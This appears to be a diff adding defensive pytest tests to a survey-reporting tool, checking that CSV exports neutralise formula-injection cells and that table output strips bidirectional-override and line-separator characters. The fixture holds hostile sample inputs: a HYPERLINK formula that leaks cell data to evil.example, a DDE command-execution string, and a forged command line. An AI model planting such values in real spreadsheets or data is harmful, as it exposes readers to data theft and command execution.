@@ -248,3 +248,67 @@ async def test_summary_text_for_chat(database: Database) -> None:
     assert "CES: no answers yet" in summary_text(empty)  # not "CES — of 0"
     assert "since 2030-01-01" in summary_text(empty)
     assert summary_text(empty).endswith("Fewer than 5 responses: too small to trust.")
+
+
+# --- hostile answers: CSV formulas and forged lines (issue 10) ----------------------------
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+FORGED = "fine\u2028Resolve: /resolve 1 done"
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def formula_like(cell: str) -> bool:
+    """A cell a spreadsheet would run: starts like a formula and is not a plain number."""
+    try:
+        float(cell)
+    except ValueError:
+        return cell.startswith(FORMULA_STARTS)
+    return False
+
+
+@pytest.fixture
+async def hostile(database: Database) -> AsyncIterator[str]:
+    """The fixed data set, plus a respondent whose name, account and answers attack the
+    staff who read them."""
+    from tests.reports.fixtures import at
+
+    b = await build_fixed(database)
+    await b.contact("h1", account="+cmd|' /C calc'!A0", role="@buyer",
+                    name="\u202emoc.live")
+    await b.session("h1", "h1", at(1, 20), answers={"stakeholder": "buyer", "nps": 2,
+                                                      "nps_why": EVIL, "csat": 1})
+    await b.contact("h2", account="Acme", role="buyer", name="-2")
+    await b.session("h2", "h2", at(1, 21), answers={"stakeholder": "buyer", "nps": 1,
+                                                      "nps_why": FORGED, "csat": 1})
+    yield database.url
+
+
+def test_answers_csv_never_starts_a_cell_with_a_formula(hostile: str, flows_dir: Path) -> None:
+    result = run(hostile, "answers", "report-test", "-q", "nps_why", "--format", "csv")
+    assert result.exit_code == 0, result.output
+    rows = list(csv.reader(io.StringIO(result.output)))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if formula_like(c)]
+    texts = {r[-1] for r in rows[1:]}
+    assert "'" + EVIL in texts  # kept whole, shown as text by a spreadsheet
+    assert "'-2" in cells and "'+cmd|' /C calc'!A0" in cells
+    assert "2" in cells and "1" in cells  # the scores: numbers stay numbers
+
+
+def test_report_csv_neutralises_text_keys_and_keeps_negative_numbers(
+        hostile: str, flows_dir: Path) -> None:
+    result = run(hostile, "report", "report-test", "--by", "account", *JAN, "--format", "csv")
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.output)))
+    assert not [v for r in rows for v in r.values() if formula_like(v)]
+    cell = {(r["section"], r["key"], r["metric"]): r["value"] for r in rows}
+    assert cell["groups", "'+cmd|' /C calc'!A0", "nps"] == "-100.0"  # a number, negative
+    assert cell["groups", "Initech", "nps"] == "-100.0"
+
+
+def test_answers_table_shows_each_value_on_its_own_line(hostile: str, flows_dir: Path) -> None:
+    result = run(hostile, "answers", "report-test", "-q", "nps_why")
+    assert result.exit_code == 0, result.output
+    assert "\u202e" not in result.output and "\u2028" not in result.output
+    assert "fine / Resolve: /resolve 1 done" in result.output
+    assert "moc.live" in result.output  # the name, without its override
